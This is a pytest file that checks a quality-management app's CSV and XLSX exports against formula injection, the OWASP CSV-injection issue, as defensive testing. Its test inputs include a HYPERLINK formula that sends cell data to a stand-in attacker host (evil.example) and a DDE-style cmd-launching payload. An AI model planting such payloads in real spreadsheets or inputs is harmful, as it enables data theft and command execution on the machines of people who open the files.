"""Every CSV and XLSX the app writes shows a formula-looking title as text (OWASP CSV injection).

The test finds the exports itself: every route whose address ends in ``.csv`` or ``.xlsx`` and
every spreadsheet format of the background exports.  A new export that is not walked here
fails ``test_every_spreadsheet_export_is_walked``.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Callable

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from qms.database import db
from qms.jobs.exports import REPORTS
from qms.models import ReportExport
from qms.models.jobs import EXPORT_FORMATS
from qms.services.documents import create_document
from qms.services.spreadsheets import FORMULA_STARTS, safe_cell

from ..conftest import login
from ..helpers import new_nc

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Click me")'
OTHERS = ("+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\tTAB", "\rCR")


def _cells_csv(data: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(data.decode("utf-8"))) for cell in row]


def _cells_xlsx(data: bytes) -> list[object]:
    book = load_workbook(io.BytesIO(data))
    cells = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{cell.coordinate} is a formula: {cell.value!r}"
                cells.append(cell.value)
    return cells


def _background(client, fmt: str) -> Callable[[], bytes]:
    def fetch() -> bytes:
        assert client.post("/exports", data={"report": "nc-register", "format": fmt}).status_code == 302
        export = db.session.scalars(select(ReportExport).order_by(ReportExport.id.desc())).first()
        assert export.status == "ready", export.error
        return client.get(f"/exports/{export.id}/download").data

    return fetch


#: every spreadsheet the app writes: (what, how to read it)
ROUTES = {
    "/nonconformities/export.csv": _cells_csv,
    "/nonconformities/export.xlsx": _cells_xlsx,
    "/documents/master-list.xlsx": _cells_xlsx,
    "/suppliers/approved.xlsx": _cells_xlsx,
    "/api/v1/suppliers/approved.xlsx": _cells_xlsx,
    "/competence/matrix.xlsx": _cells_xlsx,
    "/api/v1/competence-matrix.xlsx": _cells_xlsx,
    "/risks/export.csv": _cells_csv,
    "/risks/export.xlsx": _cells_xlsx,
    "/api/v1/risks/export.csv": _cells_csv,
    "/api/v1/risks/export.xlsx": _cells_xlsx,
}
BACKGROUND = {("nc-register", "xlsx"): _cells_xlsx}


def test_every_spreadsheet_export_is_walked(app):
    routes = {rule.rule for rule in app.url_map.iter_rules() if rule.rule.endswith((".csv", ".xlsx"))}
    assert routes == set(ROUTES)
    assert {(report, fmt) for report in REPORTS for fmt in EXPORT_FORMATS if fmt in ("csv", "xlsx")} == set(BACKGROUND)


@pytest.mark.parametrize("title", [HOSTILE, *OTHERS])
def test_safe_cell_follows_owasp(title):
    assert safe_cell(title) == "'" + title
    assert safe_cell("Plain = fine") == "Plain = fine" and safe_cell(-3) == -3 and safe_cell(None) is None
    assert title.startswith(FORMULA_STARTS)


def test_a_formula_title_is_text_in_every_export(app, client, org, tokens):
    from qms.services.users import create_user

    from ..risks.helpers import new_risk
    from ..suppliers.builders import approved_supplier

    new_nc(org, title=HOSTILE)
    create_document(org.quality, title=HOSTILE, doc_type="procedure", owner_id=org.quality.id, process="QA")
    approved_supplier(org, name=HOSTILE)
    new_risk(org, title=HOSTILE)
    create_user("formula@example.test", HOSTILE, "a-long-enough-password-9", {"viewer"}, check_strength=False)
    login(client, org.quality.email)
    walked = []
    fetches: dict[str, tuple[Callable[[], bytes], Callable[[bytes], list]]] = {
        route: (
            lambda route=route: (
                client.get(
                    route, headers={"Authorization": f"Bearer {tokens['quality']}"} if route.startswith("/api/") else {}
                ).data
            ),
            read,
        )
        for route, read in ROUTES.items()
    }
    for (report, fmt), read in BACKGROUND.items():
        fetches[f"background {report}.{fmt}"] = (_background(client, fmt), read)
    for name, (fetch, read) in fetches.items():
        cells = [c for c in read(fetch()) if isinstance(c, str)]
        assert "'" + HOSTILE in cells, name
        assert not [c for c in cells if c.startswith(FORMULA_STARTS)], name
        walked.append(name)
    assert len(walked) == len(ROUTES) + len(BACKGROUND)
